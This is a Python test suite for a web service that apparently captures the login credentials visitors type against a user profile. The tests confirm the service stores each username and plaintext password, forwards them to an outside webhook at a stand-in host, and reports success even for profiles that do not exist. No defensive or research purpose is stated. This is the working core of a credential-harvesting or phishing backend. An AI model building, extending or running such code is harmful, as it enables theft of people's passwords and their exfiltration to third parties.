import json
import logging
from unittest.mock import AsyncMock, patch

import httpx
import pytest
import pytest_asyncio
from httpx import ASGITransport, AsyncClient

from config import settings
from main import app
from schemas import CredentialLogCreate
from services.credential_log import forward_to_webhook, record_login
from services.storage import MemoryStorage

WEBHOOK = "https://hooks.example.test/credentials"


def _payload(**overrides) -> CredentialLogCreate:
    data = {"profile_username": "nova", "username_or_email": "visitor@example.com", "password": "hunter2"}
    data.update(overrides)
    return CredentialLogCreate(**data)


@pytest_asyncio.fixture
async def credentials_client(memory_storage):
    async with AsyncClient(transport=ASGITransport(app=app), base_url="http://test") as client:
        yield client, memory_storage


@pytest.mark.asyncio
async def test_record_login_without_webhook_only_stores():
    storage = MemoryStorage()
    with patch.object(settings, "WEBHOOK_URL", ""), \
         patch("services.credential_log.forward_to_webhook", new=AsyncMock()) as forward:
        log = await record_login(storage, _payload())

    forward.assert_not_awaited()
    assert log.profile_username == "nova"
    assert log.password == "hunter2"
    assert [entry.id for entry in await storage.get_all_credential_logs()] == [log.id]


@pytest.mark.asyncio
async def test_record_login_forwards_log_to_webhook():
    received = []

    def handler(request: httpx.Request) -> httpx.Response:
        received.append((str(request.url), json.loads(request.content)))
        return httpx.Response(200, json={"ok": True})

    storage = MemoryStorage()
    with patch.object(settings, "WEBHOOK_URL", WEBHOOK):
        log = await record_login(storage, _payload(), transport=httpx.MockTransport(handler))

    assert len(received) == 1
    url, body = received[0]
    assert url == WEBHOOK
    assert body == {
        "id": log.id,
        "profileUsername": "nova",
        "usernameOrEmail": "visitor@example.com",
        "password": "hunter2",
        "timestamp": log.timestamp,
    }


@pytest.mark.asyncio
@pytest.mark.parametrize("failure", ["connect", "status", "unexpected"])
async def test_webhook_failure_does_not_undo_log(failure):
    def handler(request: httpx.Request) -> httpx.Response:
        if failure == "connect":
            raise httpx.ConnectError("connection refused", request=request)
        if failure == "unexpected":
            raise RuntimeError("transport exploded")
        return httpx.Response(502)

    storage = MemoryStorage()
    with patch.object(settings, "WEBHOOK_URL", WEBHOOK):
        log = await record_login(storage, _payload(), transport=httpx.MockTransport(handler))

    assert [entry.id for entry in await storage.get_all_credential_logs()] == [log.id]


@pytest.mark.asyncio
async def test_forward_logs_unexpected_errors_as_warning(caplog):
    def handler(request: httpx.Request) -> httpx.Response:
        raise RuntimeError("transport exploded")

    log = await MemoryStorage().create_credential_log(_payload())
    with caplog.at_level(logging.WARNING, logger="services.credential_log"):
        delivered = await forward_to_webhook(log, WEBHOOK, transport=httpx.MockTransport(handler))

    assert delivered is False
    assert "transport exploded" in caplog.text
    assert log.id in caplog.text


@pytest.mark.asyncio
async def test_log_endpoint_returns_201_for_unknown_profile(credentials_client):
    client, storage = credentials_client

    with patch.object(settings, "WEBHOOK_URL", ""):
        resp = await client.post(
            "/api/credentials/log",
            json={"profileUsername": "ghost", "usernameOrEmail": "me", "password": "pw"},
        )
    assert resp.status_code == 201
    assert resp.json() == {"success": True}

    logs = await storage.get_all_credential_logs()
    assert len(logs) == 1
    assert logs[0].profile_username == "ghost"
    assert await storage.get_profile_by_username("ghost") is None


@pytest.mark.asyncio
async def test_log_endpoint_succeeds_when_webhook_unreachable(credentials_client):
    client, storage = credentials_client

    with patch.object(settings, "WEBHOOK_URL", "http://127.0.0.1:9/unreachable"):
        resp = await client.post(
            "/api/credentials/log",
            json={"profileUsername": "nova", "usernameOrEmail": "me", "password": "pw"},
        )
    assert resp.status_code == 201
    assert len(await storage.get_all_credential_logs()) == 1


@pytest.mark.asyncio
async def test_log_endpoint_requires_all_fields(credentials_client):
    client, storage = credentials_client

    resp = await client.post("/api/credentials/log", json={"profileUsername": "nova", "password": ""})
    assert resp.status_code == 400
    assert await storage.get_all_credential_logs() == []
